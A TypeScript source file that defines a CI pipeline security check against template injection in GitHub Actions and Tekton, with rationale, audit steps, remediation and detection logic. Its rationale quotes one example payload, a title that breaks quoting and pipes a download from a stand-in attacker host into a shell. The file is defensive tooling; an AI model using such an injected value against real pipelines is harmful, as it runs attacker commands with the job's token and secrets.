import type { Control, Judgement } from '../control.js';
import { hasGitHub } from '../github/steps.js';
import type { Subject } from '../subject.js';
import { hasTekton } from '../tekton/specs.js';
import { gitHubViolation, tektonViolation } from './flows.js';
import { codeFlows, codeFlowsOfTekton, wordsOf, wordsOfTekton } from './injection.js';

/** 2.1.1: what is filled into a script is read by its interpreter like the script itself. */
export const noTemplateInjection: Control = {
  id: '2.1.1',
  slug: 'no-template-injection',
  title: 'Untrusted text does not become code',
  level: 1,
  assessment: 'automated',
  rationale:
    'Expressions and variables are filled into a script as text, before a shell reads it. Quotes around them do not help: a title such as `"; curl evil.example | sh; "` ends the quotes. Whoever writes the title of an issue or the name of a branch then runs commands with the token and the secrets of the job.',
  audit:
    'List the expressions in `run` and in inputs that are code (`script` of actions/github-script), and the variables in `script` and behind `sh -c`. None holds text of an event, a branch, a commit, or on Tekton a parameter that callers choose freely. No script gives a variable with such text to `eval`, `sh -c` or another interpreter.',
  remediation:
    'Hand the value over in the environment and use the variable in double quotes: `env: { TITLE: ${{ github.event.issue.title }} }` and `"$TITLE"`; on Tekton `env: [{ name: TITLE, value: $(params.title) }]`. As an argument of a program (`args`) a parameter is data.',
  impact: 'None: the script sees the same value.',
  references: [
    'OWASP CICD-SEC-4',
    'OSPS BR-01.01',
    'Scorecard Dangerous-Workflow',
    'zizmor template-injection',
    'CodeQL code-injection',
    'poutine injection',
  ],
  legs: { G: { judge: judgeGitHub }, T: { judge: judgeTekton } },
};

function judgeGitHub(subject: Subject): Judgement {
  if (!hasGitHub(subject)) return 'not-applicable';
  return codeFlows(subject)
    .filter(({ taint }) => !taint.crossed && taint.grade !== 'caller')
    .map((flow) => gitHubViolation(subject, flow, wordsOf(flow)));
}

/** What callers choose belongs here however it arrives; what came from an event over a boundary to 2.1.3. */
function judgeTekton(subject: Subject): Judgement {
  if (!hasTekton(subject)) return 'not-applicable';
  return codeFlowsOfTekton(subject)
    .filter(({ taint }) => !taint.crossed || taint.grade === 'caller')
    .map((flow) => tektonViolation(flow, wordsOfTekton(flow)));
}
